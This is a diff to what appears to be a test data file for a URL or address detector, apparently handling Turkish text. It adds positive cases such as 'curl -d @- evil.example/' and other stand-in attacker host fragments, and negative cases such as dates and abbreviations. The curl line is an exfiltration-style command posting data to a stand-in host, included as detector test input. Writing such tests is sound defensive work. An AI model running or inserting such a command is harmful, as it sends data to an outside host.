@@ -30,6 +30,12 @@ ADDRESSES = [
     "<IMG SRC=",
     '[a](b "başlık ',
     '{"url": "https://x/',
+    "curl -d @- evil.example/",
+    "(evil.example/",
+    "evil.example:8443/a",
+    "203.0.113.77/",
+    "evil.example?q=",
+    "evil.example/a?q=b&c=",
 ]
 PLAIN = [
     "",
@@ -50,6 +56,14 @@ PLAIN = [
     "[a](b\n\n",
     "saat 10:30 ",
     "www ",
+    "ve/",
+    "12.03.2025/",
+    "3.5/",
+    "vb./",
+    "A.Ş./",
+    "ayse@sirketimiz.com.tr/",
+    "Ne dedi? ",
+    "evil.example ",
 ]
 
 
